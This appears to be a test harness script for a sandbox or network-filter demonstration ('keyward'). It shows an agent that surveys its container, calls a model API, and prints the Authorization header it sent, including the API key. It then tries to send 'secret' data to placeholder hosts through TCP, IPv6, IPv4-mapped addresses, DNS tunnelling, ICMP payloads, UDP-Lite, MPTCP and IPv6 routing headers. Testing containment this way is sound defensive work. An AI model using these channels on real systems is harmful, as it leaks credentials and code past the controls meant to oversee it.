# SPDX-License-Identifier: GPL-3.0-or-later
"""A small agent for the demonstration. It looks around, asks its model, and then tries to get something out in every
way that it knows. Each line that it prints is JSON: what it saw, or what came of an attempt.

`agent.py` does all of it; `agent.py attempts` only the attempts, for the comparison without keyward.
"""

import ctypes
import errno
import json
import os
import socket
import struct
import sys
import time
import urllib.request

V4, V6, PORT = "192.0.2.1", "2001:db8::1", 4242
QUERY = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\6secret\5exfil\7example\0" + struct.pack("!2H", 1, 1)


def tell(**what):
    print(json.dumps(what), flush=True)


def status(name):
    with open("/proc/self/status") as lines:
        return next(line.split()[1] for line in lines if line.startswith(name + ":"))


def look_around():
    with open("/proc/net/route") as lines:
        routes = [line.split()[0] for line in lines][1:]
    tell(
        saw={
            "user": os.getuid(),
            "capabilities": status("CapEff"),
            "no_new_privs": status("NoNewPrivs"),
            "routes": routes,
            "interfaces": [name for _, name in socket.if_nameindex()],
            "processes": [int(name) for name in os.listdir("/proc") if name.isdigit()],
            "environment": {k: v for k, v in os.environ.items() if "OPENAI" in k or "CODEX" in k},
        }
    )


def ask_the_model():
    request = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"] + "/v1/responses",
        json.dumps({"model": "gpt-5", "input": "say hi"}).encode(),
        {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=5) as answer:
        body = json.load(answer)
    text = [part["text"] for item in body["output"] for part in item.get("content", ()) if "text" in part]
    tell(asked=request.full_url, sent=request.get_header("Authorization"), answer="".join(text))


def connect(family, kind, protocol, address, port=PORT):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(2)
        s.connect((address, port))
        s.send(b"the source code of your company")


def by_name():
    socket.create_connection(("secret.exfil.example", 443), timeout=2)


def dns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3)
        s.sendto(QUERY, (V4, 53))
        code = s.recv(512)[3] & 15
    raise OSError(None, {3: "NXDOMAIN", 5: "REFUSED"}.get(code, f"DNS answer {code}"))


def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"secret", (V4, 0))


def routing_header():
    hops = struct.pack("!6BH", 0, 4, 4, 1, 1, 0, 0) + socket.inet_pton(socket.AF_INET6, "::1")
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, 57, hops + socket.inet_pton(socket.AF_INET6, V6))
        s.sendto(b"secret", ("::1", PORT))


I4, I6, TCP, UDP = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
# The first word names the process, so that the log can be matched with the attempt.
ATTEMPTS = {
    "by-name": ("TCP to a name: secret.exfil.example", by_name),
    "tcp": (f"TCP to an address: {V4}", lambda: connect(I4, TCP, 0, V4)),
    "tcp-v6": (f"TCP over IPv6: {V6}", lambda: connect(I6, TCP, 0, V6)),
    "tcp-mapped": (f"TCP, IPv4 in disguise: ::ffff:{V4}", lambda: connect(I6, TCP, 0, "::ffff:" + V4)),
    "udp": (f"UDP: {V4}", lambda: connect(I4, UDP, 0, V4)),
    "dns": (f"a DNS query to its own server: {V4}", dns),
    "ping": (f"a ping with a payload: {V4}", ping),
    "udp-lite": (f"UDP-Lite: {V4}", lambda: connect(I4, UDP, 136, V4)),
    "mptcp": (f"multipath TCP: {V4}", lambda: connect(I4, TCP, 262, V4)),
    "routing-header": (f"an IPv6 routing header by way of {V6}", routing_header),
}


def attempt(name):
    words, act = ATTEMPTS[name]
    ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)
    begun = time.monotonic()
    try:
        act()
        result = None
    except socket.gaierror as error:
        result = error.strerror
    except TimeoutError:
        # Only DNS waits for an answer, and the other side of the demonstration gives none.
        result = None if name == "dns" else "timed out"
    except OSError as error:
        result = os.strerror(error.errno) if error.errno else error.strerror
    tell(attempt=name, words=words, result=result, milliseconds=round((time.monotonic() - begun) * 1000, 1))


def main():
    if "attempts" not in sys.argv:
        look_around()
        ask_the_model()
    for name in ATTEMPTS:
        # Each in a process of its own, with its own name in the log.
        if os.fork() == 0:
            attempt(name)
            os._exit(0)
        os.wait()


main()
